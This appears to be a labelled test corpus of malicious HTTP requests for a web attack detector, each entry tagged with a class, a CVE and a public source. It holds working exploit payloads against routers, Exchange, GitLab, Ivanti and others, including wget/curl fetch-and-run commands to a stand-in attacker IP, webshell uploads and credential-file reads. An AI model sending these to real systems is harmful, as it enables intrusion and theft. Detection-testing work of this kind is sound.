A("netgear-setup", "cmd_injection", "", "exploit-db 25978 (Netgear DGN setup.cgi)",
  req("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.7/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"))
A("jaws-shell", "cmd_injection", "", "honeypot logs (MVPower DVR JAWS)",
  req("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws"))
A("linksys-tmunblock", "cmd_injection", "", "exploit-db 31683 (TheMoon)",
  req("POST", "/tmUnblock.cgi", FORM, "submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h `cd /tmp; rm -rf *; wget http://198.51.100.7/x`&StartEPI=1"))
A("avtech-search", "cmd_injection", "", "exploit-db 40500 (AVTECH)",
  req("GET", "/cgi-bin/nobody/Search.cgi?action=cgi_query&ip=google.com&port=80&queryb64str=Lw==&username=admin%20;XmlAp%20r%20Account.User1.Password%3E$(cd%20/tmp;%20wget%20http://198.51.100.7/a)&password=admin"))
A("lilin-dvr", "cmd_injection", "CVE-2023-4979", "honeypot logs / nuclei LILIN DVR",
  req("POST", "/dvr/cmd", {"Content-Type": "text/xml", "Authorization": "Basic YWRtaW46MTIzNDU2"}, '<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><SetConfiguration File="service.xml"><![CDATA[<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><Service><NTP Enable="True" Interval="20000" Server="time.nist.gov&wget http://198.51.100.7/l -O- | sh;"/></Service></DVR>]]></SetConfiguration></DVR>'), allow="bruteforce,xxe")
A("draytek-8515", "cmd_injection", "CVE-2020-8515", "exploit-db 48268",
  req("POST", "/cgi-bin/mainfunction.cgi", FORM, "action=login&keyPath=%27%0A%2fbin%2fcat${IFS}%2fetc%2fpasswd%0A%27&loginUser=a&loginPwd=a"), allow="lfi,bruteforce")
A("totolink-cstecgi", "cmd_injection", "", "nuclei TOTOLINK setNtpCfg injection",
  req("POST", "/cgi-bin/cstecgi.cgi", {"Content-Type": "application/json"}, '{"topicurl":"setting/setTracerouteCfg","command":"127.0.0.1; wget http://198.51.100.7/t -O /tmp/t;"}'))
A("zeroshell-12725", "cmd_injection", "CVE-2019-12725", "exploit-db 49096",
  req("GET", "/cgi-bin/kerbynet?Action=x509view&Section=NoAuthREQ&User=&x509type=%27%0Aid%0A%27"))
A("sapido-syscmd", "cmd_injection", "", "exploit-db 47994 (Sapido)",
  req("POST", "/boafrm/formSysCmd", FORM, "sysCmd=wget+http://198.51.100.7/s+-O+/tmp/s&apply=Apply&submit-url=/syscmd.htm&msg="))
A("ruckus-25717", "cmd_injection", "CVE-2023-25717", "nuclei http/cves/2023/CVE-2023-25717.yaml",
  req("GET", "/forms/doLogin?login_username=admin&password=password$(curl%20198.51.100.7/r.sh|sh)&x=0&y=0"), allow="bruteforce")
A("boa-formlogin", "bruteforce", "", "honeypot logs (Boa GPON login)",
  req("POST", "/boaform/admin/formLogin", FORM, "username=admin&psd=Feefifofum"))
A("gitlab-22205", "cmd_injection", "CVE-2021-22205", "Rapid7 CVE-2021-22205 PoC",
  req("POST", "/uploads/user", {"Content-Type": "multipart/form-data; boundary=----WebKitFormBoundaryIMv3mxRg59TkFSX5"},
      '------WebKitFormBoundaryIMv3mxRg59TkFSX5\r\nContent-Disposition: form-data; name="file"; filename="test.jpg"\r\nContent-Type: image/jpeg\r\n\r\nAT&TFORM\x00\x00\x03\xafDJVMDIRM\x00\x00\x00.\x81\x00\x02\x00\x00\x00F\x00\x00\x00\xac\xff\xff\xde\xbf\x99 !\xc8\x91N\xeb\x0c\x07\x1f\xd2\xda\x88\xe8k\xe6D\x0f,q\x02\xeeI\xd3n\x95\xbd\xa2\xc3"?FORM\x00\x00\x00^DJVUINFO\x00\x00\x00\n\x00\x08\x00\x08\x18\x00d\x00\x16\x00INCL\x00\x00\x00\x0fshared_anno.iff\x00BG44\x00\x00\x00\x11\x00J\x01\x02\x00\x08\x00\x08\x8a\xe6\xe1\xb17\xd9*\x89\x00BG44\x00\x00\x00\x04\x01\x0f\xf9\x9fBG44\x00\x00\x00\x02\x02\nFORM\x00\x00\x03\x07DJVIANTa\x00\x00\x01P(metadata\n\t(Copyright "\\\n" . qx{curl 198.51.100.7/g | sh} . \\\n" b ") )\n\r\n------WebKitFormBoundaryIMv3mxRg59TkFSX5--\r\n'), allow="upload")
A("vmware-21972", "exploit", "CVE-2021-21972", "nuclei http/cves/2021/CVE-2021-21972.yaml",
  req("GET", "/ui/vropspluginui/rest/services/uploadova"))
A("vmware-22954", "ssti", "CVE-2022-22954", "nuclei http/cves/2022/CVE-2022-22954.yaml",
  req("GET", "/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%2e%74%65%6d%70%6c%61%74%65%2e%75%74%69%6c%69%74%79%2e%45%78%65%63%75%74%65%22%3f%6e%65%77%28%29%28%22%63%61%74%20%2f%65%74%63%2f%70%61%73%73%77%64%22%29%7d"), allow="lfi,jndi,cmd_injection")
A("exchange-proxyshell", "ssrf", "CVE-2021-34473", "nuclei http/cves/2021/CVE-2021-34473.yaml",
  req("GET", "/autodiscover/autodiscover.json?@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com"), allow="recon")
A("exchange-proxyshell-mapi", "ssrf", "CVE-2021-34473", "Orange Tsai ProxyShell slides",
  req("GET", "/autodiscover/autodiscover.json?@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp"), allow="recon")
A("exchange-proxylogon", "ssrf", "CVE-2021-26855", "nuclei http/cves/2021/CVE-2021-26855.yaml",
  req("GET", "/owa/auth/x.js", {"Cookie": "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3;"}))
A("solr-velocity", "ssti", "CVE-2019-17558", "exploit-db 47572",
  req("GET", "/solr/db/select?q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))+%23set($chr=$x.class.forName(%27java.lang.Character%27))+%23set($str=$x.class.forName(%27java.lang.String%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))+$ex.waitFor()"), allow="recon,cmd_injection")
A("jboss-invoker", "deserialization", "CVE-2017-12149", "nuclei http/cves/2017/CVE-2017-12149.yaml",
  req("POST", "/invoker/readonly", {"Content-Type": "application/x-java-serialized-object"}, base64.b64decode("rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3DAAAAAI/QAAAAAAAAXQABGFiY2R4")))
A("elasticsearch-1427", "cmd_injection", "CVE-2015-1427", "exploit-db 36337",
  req("POST", "/_search?pretty", {"Content-Type": "application/json"}, '{"size":1,"script_fields":{"lupin":{"lang":"groovy","script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\").getText()"}}}'), allow="deserialization")
A("docker-api-create", "cmd_injection", "", "Aqua/Trend Micro Docker API attack reports",
  req("POST", "/v1.24/containers/create", {"Content-Type": "application/json"}, '{"Image":"alpine","Cmd":["/bin/sh","-c","wget -O- http://198.51.100.7/d.sh | sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}'))
A("yarn-new-app", "cmd_injection", "", "honeypot logs (Hadoop YARN)", req("POST", "/ws/v1/cluster/apps/new-application", {}, ""))
A("tomcat-12617", "exploit", "CVE-2017-12617", "exploit-db 42966",
  req("PUT", "/x.jsp/", {}, '<% out.println("VULN"); Runtime.getRuntime().exec(request.getParameter("cmd")); %>'), allow="webshell,ssti")
A("wp-file-manager", "exploit,wordpress", "CVE-2020-25213", "nuclei http/cves/2020/CVE-2020-25213.yaml",
  req("POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", {"Content-Type": "multipart/form-data; boundary=------------------------66e3ca93281c7050"},
      '--------------------------66e3ca93281c7050\r\nContent-Disposition: form-data; name="cmd"\r\n\r\nupload\r\n--------------------------66e3ca93281c7050\r\nContent-Disposition: form-data; name="target"\r\n\r\nl1_Lw\r\n--------------------------66e3ca93281c7050\r\nContent-Disposition: form-data; name="upload[]"; filename="x.php"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET["cmd"]); ?>\r\n--------------------------66e3ca93281c7050--\r\n'),
  allow="upload,webshell,php_code_injection,cmd_injection")
A("wp-duplicator", "path_traversal,wordpress", "CVE-2020-11738", "nuclei http/cves/2020/CVE-2020-11738.yaml",
  req("GET", "/wp-admin/admin-ajax.php?action=duplicator_download&file=../../../../../../../../../etc/passwd"), allow="lfi")
A("grafana-43798", "path_traversal", "CVE-2021-43798", "nuclei http/cves/2021/CVE-2021-43798.yaml",
  req("GET", "/public/plugins/alertlist/../../../../../../../../../../../../../etc/passwd"), allow="lfi")
A("coldfusion-2861", "path_traversal", "CVE-2010-2861", "exploit-db 14641",
  req("GET", "/CFIDE/administrator/enter.cfm?locale=../../../../../../../../../../ColdFusion8/lib/password.properties%00en"))
A("phpmyadmin-12613", "lfi", "CVE-2018-12613", "exploit-db 44928",
  req("GET", "/phpmyadmin/index.php?target=db_sql.php%253f/../../../../../../../../etc/passwd"), allow="path_traversal,recon")
A("php-fpm-11043", "php_code_injection", "CVE-2019-11043", "neex phuip-fpizdam PoC",
  req("GET", "/index.php/PHP%0Ais_the_shittiest_lang.php?QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ", {"D-Pisos": "8=" + "D" * 40, "Ebut": "mamku tvoyu"}), allow="crlf")
A("goahead-17562", "exploit", "CVE-2017-17562", "exploit-db 43360",
  req("POST", "/cgi-bin/index?LD_PRELOAD=/proc/self/fd/0", {"Content-Type": "application/octet-stream"}, b"\x7fELF\x02\x01\x01\x00"), allow="lfi")
A("openfire-32315", "path_traversal", "CVE-2023-32315", "nuclei http/cves/2023/CVE-2023-32315.yaml",
  req("GET", "/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp"))
A("ivanti-46805", "cmd_injection", "CVE-2023-46805,CVE-2024-21887", "Rapid7 Ivanti Connect Secure analysis",
  req("GET", "/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20198.51.100.7%7csh%3b"), allow="path_traversal")
A("palo-alto-3400", "cmd_injection", "CVE-2024-3400", "watchTowr CVE-2024-3400 PoC",
  req("POST", "/ssl-vpn/hipreport.esp", {"Cookie": "SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/hellothere226`curl${IFS}198.51.100.7`", "Content-Type": "application/x-www-form-urlencoded"}, "x"), allow="path_traversal")
A("nexus-4956", "path_traversal", "CVE-2024-4956", "nuclei http/cves/2024/CVE-2024-4956.yaml",
  req("GET", "/%2F%2F%2F%2F%2F%2F%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd"), allow="lfi")
A("text4shell", "cmd_injection", "CVE-2022-42889", "nuclei http/cves/2022/CVE-2022-42889.yaml",
  req("GET", "/search?query=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27nslookup%20x.oast.example%27%29%7D"), allow="jndi")
A("moveit-34362", "sqli", "CVE-2023-34362", "Horizon3 MOVEit PoC", req("POST", "/moveitisapi/moveitisapi.dll?action=m2", {"X-siLock-Transaction": "folder_add_by_path"}, "x"))
A("jira-8451", "ssrf", "CVE-2019-8451", "nuclei http/cves/2019/CVE-2019-8451.yaml",
  req("GET", "/plugins/servlet/gadgets/makeRequest?url=https://198.51.100.20:443@169.254.169.254/latest/meta-data/"))
A("magento-shoplift", "sqli", "CVE-2015-1397", "exploit-db 37977",
  req("POST", "/index.php/admin/Cms_Wysiwyg/directive/index/", FORM, "filter=cG9wdWxhcml0eVtmcm9tXT0wJnBvcHVsYXJpdHlbdG9dPTMmcG9wdWxhcml0eVtmaWVsZF9leHByXT0wKTtTRVQgQFNBTFQgPSAncnAnOw==&___directive=e3tibG9jayB0eXBlPUFkbWluaHRtbC9yZXBvcnRfc2VhcmNoX2dyaWQgb3V0cHV0PWdldENzdkZpbGV9fQ&forwarded=1"))
A("hadoop-yarn-submit", "cmd_injection", "", "Trend Micro Hadoop YARN report",
  req("POST", "/ws/v1/cluster/apps", {"Content-Type": "application/json"}, '{"application-id":"application_1527144634877_20465","application-name":"dbcdbcdbc","am-container-spec":{"commands":{"command":"wget -q -O - 198.51.100.7/cr.sh | bash & disown"}},"application-type":"YARN"}'))
A("kubelet-run", "cmd_injection", "", "Aqua Kubelet attack report",
  req("POST", "/run/default/nginx-7f/nginx", FORM, "cmd=id"))
A("jenkins-script", "cmd_injection", "", "exploit-db 24272 (Jenkins script console)",
  req("POST", "/script", FORM, "script=println+%22id%22.execute%28%29.text&json=%7B%22script%22%3A+%22println+%5C%22id%5C%22.execute%28%29.text%22%7D&Submit=Run"))
# ------------------------------------------------------------------ generic classes: SQLi
src = "OWASP Testing Guide / sqlmap payloads (public)"
A("sqli-union", "sqli", "", src, req("GET", "/products.php?id=1%20UNION%20ALL%20SELECT%20NULL,concat(0x7176627171,user(),0x71716b7a71),NULL--%20-"))
A("sqli-or-1", "sqli", "", src, req("POST", "/login.php", FORM, "username=admin%27+OR+%271%27%3D%271&password=x"), allow="bruteforce")
A("sqli-sleep", "sqli", "", src, req("GET", "/item.php?id=1%27%20AND%20SLEEP(5)--%20-"))
A("sqli-benchmark", "sqli", "", src, req("GET", "/news.php?id=1%20AND%20BENCHMARK(5000000,MD5(1))"))
A("sqli-waitfor", "sqli", "", src, req("GET", "/default.aspx?id=1;WAITFOR%20DELAY%20%270:0:5%27--"))
A("sqli-extractvalue", "sqli", "", src, req("GET", "/index.php?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,(SELECT%20version())))"))
A("sqli-double-encoded", "sqli", "", "ModSecurity CRS regression tests", req("GET", "/search?q=1%2527%2520UNION%2520SELECT%25201%252C2%252C3--"))
A("sqli-info-schema", "sqli", "", src, req("GET", "/cat.php?id=-1+union+select+1,group_concat(table_name),3+from+information_schema.tables+where+table_schema=database()"))
A("sqli-cookie", "sqli", "", "sqlmap --level 2 cookie tests", req("GET", "/", {"Cookie": "lang=en' AND 1=1 AND 'a'='a"}))
A("sqli-json", "sqli", "", "PortSwigger Web Security Academy", req("POST", "/api/search", {"Content-Type": "application/json"}, '{"q":"x\' UNION SELECT username, password FROM users--"}'))
A("sqli-pg-sleep", "sqli", "", src, req("GET", "/api/v1/items?sort=id;SELECT%20pg_sleep(10)--"))
A("sqli-stacked-drop", "sqli", "", src, req("GET", "/page.php?id=1;%20DROP%20TABLE%20users--"))
A("sqli-xp-cmdshell", "sqli", "", src, req("GET", "/report.asp?id=1;EXEC%20xp_cmdshell('ping%20198.51.100.7')--"), allow="cmd_injection")
A("sqli-order-by", "sqli", "", src, req("GET", "/list.php?cat=1%20ORDER%20BY%2010--"))
A("sqli-sqlmap-boolean", "sqli", "", "sqlmap boolean-based payload", req("GET", "/artists.php?artist=1%20AND%205423%3D5423", ua="sqlmap/1.7.2#stable (https://sqlmap.org)"), allow="scanner")
A("sqli-sqlmap-time", "sqli", "", "sqlmap time-based payload", req("GET", "/listproducts.php?cat=1%20AND%20(SELECT%207842%20FROM%20(SELECT(SLEEP(5)))kbWl)", ua="sqlmap/1.7.2#stable (https://sqlmap.org)"), allow="scanner")
A("sqli-case-when", "sqli", "", src, req("GET", "/view?id=(CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200%20END)"))
A("sqli-load-file", "sqli", "", src, req("GET", "/p.php?id=-1%20union%20select%20load_file('/etc/passwd')"), allow="lfi")
# ------------------------------------------------------------------ XSS
src = "OWASP XSS Filter Evasion Cheat Sheet"
A("xss-script", "xss", "", src, req("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"))
A("xss-img-onerror", "xss", "", src, req("GET", "/?name=%3Cimg%20src=x%20onerror=alert(1)%3E"))
A("xss-svg-onload", "xss", "", src, req("GET", "/comment?text=%3Csvg/onload=alert(1)%3E"))
A("xss-double-encoded", "xss", "", src, req("GET", "/q?s=%253Cscript%253Ealert(1)%253C%252Fscript%253E"))
A("xss-entities", "xss", "", src, req("POST", "/guestbook", FORM, "msg=%26lt%3Bscript%26gt%3Balert%28%27x%27%29%26lt%3B%2Fscript%26gt%3B"))
A("xss-javascript-uri", "xss", "", src, req("GET", "/redirect?url=%22%3E%3Ca%20href=%22javascript:alert(1)%22%3Ex%3C/a%3E"))
A("xss-iframe", "xss", "", src, req("GET", "/page?x=%3Ciframe%20src=%22javascript:alert(%27XSS%27)%22%3E%3C/iframe%3E"))
A("xss-body-onload", "xss", "", src, req("GET", "/p?x=%3Cbody%20onload=alert(%27XSS%27)%3E"))
A("xss-details", "xss", "", "PortSwigger XSS cheat sheet", req("GET", "/?q=%3Cdetails%20open%20ontoggle=alert(1)%3E"))
A("xss-unicode", "xss", "", "IIS %u encoding evasion", req("GET", "/default.asp?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E"))
A("xss-referer", "xss", "", src, req("GET", "/", {"Referer": "http://x/\"><script>alert(String.fromCharCode(88,83,83))</script>"}))
A("xss-json", "xss", "", "PortSwigger XSS cheat sheet", req("POST", "/api/profile", {"Content-Type": "application/json"}, '{"bio":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}'))
# ------------------------------------------------------------------ LFI / traversal / RFI
src = "PayloadsAllTheThings File Inclusion"
A("lfi-passwd", "lfi,path_traversal", "", src, req("GET", "/index.php?page=../../../../etc/passwd"))
A("lfi-null", "lfi,path_traversal", "", src, req("GET", "/index.php?page=../../../etc/passwd%00"))
A("lfi-php-filter", "lfi", "", src, req("GET", "/index.php?page=php://filter/convert.base64-encode/resource=index.php"))
A("lfi-double-encoded", "lfi,path_traversal", "", src, req("GET", "/download.php?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"))
A("lfi-proc-environ", "lfi,path_traversal", "", src, req("GET", "/?file=../../../../proc/self/environ"))
A("lfi-win-ini", "lfi,path_traversal", "", src, req("GET", "/download?file=..\\..\\..\\..\\windows\\win.ini"))
A("lfi-utf8-overlong", "lfi,path_traversal", "", src, req("GET", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"))
A("lfi-php-input", "lfi,php_code_injection", "", src, req("POST", "/index.php?page=php://input", FORM, "<?php system('id'); ?>"), allow="cmd_injection")
A("traversal-dotdot-semicolon", "path_traversal", "", "Tomcat ..; traversal (Orange Tsai)", req("GET", "/app/..;/..;/..;/manager/html"), allow="recon")
A("traversal-backslash", "path_traversal", "", src, req("GET", "/files?name=..%5c..%5c..%5cboot.ini"), allow="lfi")
A("rfi-http", "rfi", "", "PayloadsAllTheThings File Inclusion (RFI)", req("GET", "/index.php?page=http://198.51.100.7/shell.txt?"))
A("rfi-mosconfig", "rfi", "", "exploit-db 3703 (Joomla mosConfig RFI)", req("GET", "/components/com_x/x.php?mosConfig_absolute_path=http://198.51.100.7/c99.txt?"))
A("rfi-include-ftp", "rfi", "", "Glastopf RFI samples", req("GET", "/main.php?include=ftp://198.51.100.7/r57.txt"))
# ------------------------------------------------------------------ command injection (generic)
src = "PayloadsAllTheThings Command Injection"
A("cmdi-semicolon", "cmd_injection", "", src, req("GET", "/ping.php?ip=127.0.0.1;cat%20/etc/passwd"), allow="lfi")
A("cmdi-pipe", "cmd_injection", "", src, req("POST", "/diag", FORM, "host=8.8.8.8|id"))
A("cmdi-backticks", "cmd_injection", "", src, req("GET", "/cgi-bin/ping.cgi?host=`wget%20http://198.51.100.7/x%20-O%20/tmp/x`"))
A("cmdi-subshell", "cmd_injection", "", src, req("GET", "/api/dns?name=$(curl%20http://198.51.100.7/a.sh|sh)"))
A("cmdi-ifs", "cmd_injection", "", src, req("GET", "/cgi-bin/test?cmd=cat${IFS}/etc/passwd"), allow="lfi")
A("cmdi-newline", "cmd_injection", "", src, req("POST", "/tools/ping", FORM, "target=127.0.0.1%0aid"))
A("cmdi-busybox", "cmd_injection", "", "honeypot logs (Mirai loaders)", req("POST", "/cgi-bin/admin.cgi", FORM, "cmd=cd+/tmp;+busybox+wget+http://198.51.100.7/m;+chmod+777+m;+./m"))
A("cmdi-json", "cmd_injection", "", src, req("POST", "/api/exec", {"Content-Type": "application/json"}, '{"host":"1.1.1.1 && curl http://198.51.100.7/x.sh | sh"}'))
# ------------------------------------------------------------------ PHP code / webshells
A("php-eval-body", "php_code_injection", "", "Glastopf PHP injection samples", req("POST", "/index.php", FORM, "a=eval(base64_decode('ZWNobyAiaGVsbG8iOw=='));"))
A("php-system-get", "php_code_injection", "", "honeypot logs", req("GET", "/index.php?cmd=system(%27id%27);"), allow="cmd_injection,webshell")
A("webshell-probe", "webshell", "", "honeypot logs (webshell hunters)", req("GET", "/wp-content/plugins/x/alfa.php"), allow="wordpress")
A("webshell-cmd", "webshell", "", "honeypot logs (webshell hunters)", req("GET", "/shell.php?cmd=id"), allow="cmd_injection")
A("upload-php", "upload,webshell", "", "PayloadsAllTheThings Upload Insecure Files",
  req("POST", "/upload.php", {"Content-Type": "multipart/form-data; boundary=----x"}, '------x\r\nContent-Disposition: form-data; name="file"; filename="s.php"\r\nContent-Type: image/jpeg\r\n\r\n<?php @eval($_POST["a"]); ?>\r\n------x--\r\n'), allow="php_code_injection")
# ------------------------------------------------------------------ SSTI
src = "PayloadsAllTheThings Server Side Template Injection"
A("ssti-jinja-math", "ssti", "", src, req("GET", "/hello?name={{7*7}}"))
A("ssti-jinja-rce", "ssti", "", src, req("GET", "/?n={{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}"), allow="cmd_injection")
A("ssti-dollar", "ssti", "", src, req("GET", "/p?x=${7*7}"))
A("ssti-erb", "ssti", "", src, req("POST", "/preview", FORM, "tpl=%3C%25%3D+7*7+%25%3E"))
A("ssti-freemarker", "ssti", "", src, req("POST", "/render", FORM, 'template=<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }'), allow="cmd_injection")
A("ssti-config", "ssti", "", src, req("GET", "/page?msg={{config.items()}}"))
# ------------------------------------------------------------------ XXE
src = "PayloadsAllTheThings XXE Injection"
A("xxe-file", "xxe", "", src, req("POST", "/xml", {"Content-Type": "application/xml"}, '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'), allow="lfi")
A("xxe-oob", "xxe", "", src, req("POST", "/api/import", {"Content-Type": "text/xml"}, '<?xml version="1.0" ?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://198.51.100.7/evil.dtd"> %ext;]><r></r>'))
A("xxe-soap", "xxe", "", src, req("POST", "/ws/soap", {"Content-Type": "text/xml", "SOAPAction": "x"}, '<!DOCTYPE x [<!ENTITY test SYSTEM "expect://id">]><soap:Envelope><soap:Body><x>&test;</x></soap:Body></soap:Envelope>'), allow="lfi")
# ------------------------------------------------------------------ CRLF
src = "PayloadsAllTheThings CRLF Injection"
A("crlf-setcookie", "crlf", "", src, req("GET", "/%0d%0aSet-Cookie:crlfinjection=1"))
A("crlf-location", "crlf", "", src, req("GET", "/redirect?next=%0d%0aLocation:%20http://198.51.100.7"))
A("crlf-utf8", "crlf", "", "nuclei http/vulnerabilities/generic/crlf-injection-generic.yaml", req("GET", "/%E5%98%8A%E5%98%8DSet-Cookie:crlfinjection=1"))
# ------------------------------------------------------------------ deserialization
A("deser-java-b64", "deserialization", "", "ysoserial CommonsCollections (base64 in cookie)", req("GET", "/", {"Cookie": "rememberMe=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0"}))
A("deser-php", "deserialization", "", "PayloadsAllTheThings Insecure Deserialization PHP", req("POST", "/profile", FORM, 'data=O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}'), allow="lfi")
A("deser-dotnet-json", "deserialization", "", "ysoserial.net ObjectDataProvider (Json.Net)",
  req("POST", "/api/data", {"Content-Type": "application/json"}, '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}'))
A("deser-python-yaml", "deserialization", "", "PayloadsAllTheThings Python YAML", req("POST", "/yaml", {"Content-Type": "application/x-yaml"}, '!!python/object/apply:os.system ["id"]'))
A("shiro-rememberme", "deserialization", "", "Apache Shiro CVE-2016-4437 scans (honeypot logs)", req("GET", "/login", {"Cookie": "rememberMe=rO0ABXNyADJvcmcuYXBhY2hlLnNoaXJvLnN1YmplY3QuU2ltcGxlUHJpbmNpcGFsQ29sbGVjdGlvbqh/WCXGowhKAwABTAAPcmVhbG1QcmluY2lwYWxz"}))
# ------------------------------------------------------------------ SSRF
src = "PayloadsAllTheThings SSRF"
A("ssrf-metadata", "ssrf", "", src, req("GET", "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"))
A("ssrf-localhost", "ssrf", "", src, req("GET", "/proxy?url=http://127.0.0.1:8080/admin"))
A("ssrf-gopher", "ssrf", "", src, req("GET", "/load?uri=gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a"), allow="crlf")
A("ssrf-gcp", "ssrf", "", src, req("GET", "/api/preview?link=http://metadata.google.internal/computeMetadata/v1/"))
A("proxy-connect", "proxy", "", "honeypot logs (open proxy probes)", req("CONNECT", "www.example.com:443", {}, host="www.example.com:443"))
A("proxy-absolute", "proxy", "", "honeypot logs (open proxy probes)", req("GET", "http://www.example.com/", {}, host="www.example.com"))
# ------------------------------------------------------------------ recon
src = "honeypot logs / nuclei exposures templates"
A("recon-env", "recon", "", "nuclei http/exposures/configs/laravel-env.yaml", req("GET", "/.env", ua="Mozilla/5.0 (X11; Linux x86_64)"))
A("recon-env-api", "recon", "", src, req("GET", "/api/.env"))
A("recon-env-bak", "recon", "", src, req("GET", "/.env.bak"))
A("recon-git", "recon", "", "nuclei http/exposures/configs/git-config.yaml", req("GET", "/.git/config"))
A("recon-git-head", "recon", "", src, req("GET", "/.git/HEAD"))
A("recon-actuator-env", "recon", "", "nuclei http/misconfiguration/springboot/springboot-env.yaml", req("GET", "/actuator/env"))
A("recon-actuator-heapdump", "recon", "", "nuclei springboot-heapdump", req("GET", "/actuator/heapdump"))
A("recon-server-status", "recon", "", "nuclei http/exposures/apache-server-status", req("GET", "/server-status"))
A("recon-phpinfo", "recon", "", src, req("GET", "/phpinfo.php"))
A("recon-phpmyadmin", "recon", "", src, req("GET", "/phpmyadmin/"))
A("recon-pma-setup", "recon", "", src, req("GET", "/pma/scripts/setup.php"))
A("recon-backup-zip", "recon", "", src, req("GET", "/backup.zip"))
A("recon-sql-dump", "recon", "", src, req("GET", "/db.sql"))
A("recon-wp-config-bak", "recon", "", src, req("GET", "/wp-config.php.bak"), allow="wordpress")
A("recon-aws-credentials", "recon", "", src, req("GET", "/.aws/credentials"))
A("recon-ds-store", "recon", "", src, req("GET", "/.DS_Store"))
A("recon-swagger", "recon", "", src, req("GET", "/swagger-ui.html"))
A("recon-vscode-sftp", "recon", "", src, req("GET", "/.vscode/sftp.json"))
A("recon-config-json", "recon", "", src, req("GET", "/config.json"))
A("recon-docker-compose", "recon", "", src, req("GET", "/docker-compose.yml"))
A("recon-owa", "recon", "", src, req("GET", "/owa/auth/logon.aspx"))
A("recon-global-protect", "recon", "", src, req("GET", "/global-protect/login.esp"))
# ------------------------------------------------------------------ WordPress
A("wp-login-get", "wordpress", "", "honeypot logs", req("GET", "/wp-login.php"))
A("wp-login-brute", "wordpress,bruteforce", "", "honeypot logs (WordPress brute force)", req("POST", "/wp-login.php", FORM, "log=admin&pwd=admin123&wp-submit=Log+In&redirect_to=%2Fwp-admin%2F&testcookie=1"))
A("wp-xmlrpc-multicall", "wordpress,bruteforce", "", "Sucuri: xmlrpc system.multicall brute force",
  req("POST", "/xmlrpc.php", {"Content-Type": "text/xml"}, "<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data><value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><array><data><value><string>admin</string></value><value><string>123456</string></value></data></array></value></data></array></value></member></struct></value></data></array></value></param></params></methodCall>"))
A("wp-xmlrpc-getusers", "wordpress,bruteforce", "", "honeypot logs", req("POST", "/xmlrpc.php", {"Content-Type": "text/xml"}, "<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>admin</value></param><param><value>password</value></param></params></methodCall>"))
A("wp-xmlrpc-pingback", "wordpress,ssrf", "", "Sucuri: pingback DDoS", req("POST", "/xmlrpc.php", {"Content-Type": "text/xml"}, "<methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://198.51.100.7/</string></value></param><param><value><string>http://blog.example/?p=1</string></value></param></params></methodCall>"))
A("wp-users-api", "wordpress,recon", "", "nuclei wp-user-enum", req("GET", "/wp-json/wp/v2/users"))
A("wp-author-enum", "wordpress,recon", "", "WPScan user enumeration", req("GET", "/?author=1"))
A("wp-setup-config", "wordpress", "", "honeypot logs", req("GET", "/wp-admin/setup-config.php"))
A("wp-revslider", "wordpress,exploit", "", "exploit-db 34511 (Revslider LFI)", req("GET", "/wp-content/plugins/revslider/temp/update_extract/revslider/x.php"), allow="webshell")
A("wp-includes-wlw", "wordpress", "", "honeypot logs", req("GET", "/wp-includes/wlwmanifest.xml"))
# ------------------------------------------------------------------ brute force
A("basic-auth-admin", "bruteforce", "", "honeypot logs", req("GET", "/", {"Authorization": "Basic " + base64.b64encode(b"admin:admin").decode()}))
